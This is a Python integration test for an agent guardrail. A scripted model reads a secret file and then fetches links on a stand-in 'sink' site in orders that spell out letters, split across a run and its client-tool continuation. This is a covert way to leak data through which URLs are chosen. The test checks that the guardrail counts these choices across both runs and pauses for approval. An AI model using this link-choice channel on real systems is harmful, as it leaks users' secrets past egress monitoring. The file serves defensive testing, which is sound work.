"""A run that ends with calls of the client's own tools goes on as another one, which no person begins: what may leave
is counted over all of them.
"""

from pathlib import Path

from agent.policy.guardrails.chosen_values import MAX_CHOSEN_VALUES
from tests.integration.conftest import Serve
from tests.integration.test_client_tools import WEATHER
from tests.integration.test_egress import SECRET, calls, fetch
from tests.integration.test_engine import write_skill
from tests.integration.test_openai_door import sdk, user
from tests.support.script import plans, says, script
from tests.support.website import Page, Website


async def test_links_that_spell_a_word_are_counted_over_the_results_of_a_client(serve: Serve, tmp_path: Path) -> None:
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "notes.md").write_text(SECRET)
    (tmp_path / "rooms").mkdir()
    (tmp_path / "rooms" / "mine.yaml").write_text("client_tools: offer\nsupervision: checks\nmemory: false\n")
    roots = write_skill(tmp_path / "skills", "helper", "web_fetch")
    async with Website() as site, Website() as sink:
        links = "".join(f"<a href='{sink.at(f'/{letter}')}'>part {letter}</a> " for letter in "abinrz")
        site.put("/page", Page(f"<h1>Guide</h1><p>Read the parts in order.</p><p>{links}</p>".encode()))
        for letter in "abinrz":
            sink.put(f"/{letter}", Page(b"<p>A part of the guide, which is about gardens.</p>"))
        helped = {"tool": "helper", "tools": ["web_fetch"], "inputs": {"task": "read the parts"}}
        plan = plans(
            {"id": "n", "tool": "read_file", "inputs": {"path": "notes.md"}},
            {"id": "p", "tool": "web_fetch", "inputs": {"url": site.at("/page")}, "depends_on": ["n"]},
            {"id": "a", **helped, "depends_on": ["p"]},
            {"id": "w", "tool": "get-Weather", "inputs": {"city": "Paris"}, "depends_on": ["a"]},
            {"id": "b", **helped, "depends_on": ["w"]},
        )
        first, second = "zan", "zib"
        turns = [
            calls(*(fetch(sink.at(f"/{letter}")) for letter in first)),
            says("Read the first parts.", to="skill", times=1),
            calls(*(fetch(sink.at(f"/{letter}")) for letter in second)),
        ]
        model = script(plan, *turns, says("Done.", to="skill"), says("Done.", to="completion"))
        hosts = f"127.0.0.1:{site.port},127.0.0.1:{sink.port}"
        options = {"file_roots": str(tmp_path / "files"), "fetch_allow_hosts": hosts, "rooms_dir": tmp_path / "rooms"}
        messages = user(f"Read notes.md and {site.at('/page')} with its parts, and say what the weather in Paris is.")
        async with serve(model, skills_dirs=(roots,), **options) as url, sdk(url) as client:
            called = await client.chat.completions.create(model="mine", messages=messages, tools=[WEATHER])
            message = called.choices[0].message
            (call,) = message.tool_calls or []
            assert len(sink.paths()) == MAX_CHOSEN_VALUES
            result = {"role": "tool", "tool_call_id": call.id, "content": "sunny"}
            sent = [*messages, message.model_dump(include={"role", "content", "tool_calls"}), result]
            again = await client.chat.completions.create(model="mine", messages=sent, tools=[WEATHER])
        assert len(sink.paths()) == MAX_CHOSEN_VALUES, "which links, and in which order, says a word"
        assert (again.model_extra or {})["stepgate"]["status"] == "awaiting_approval", again
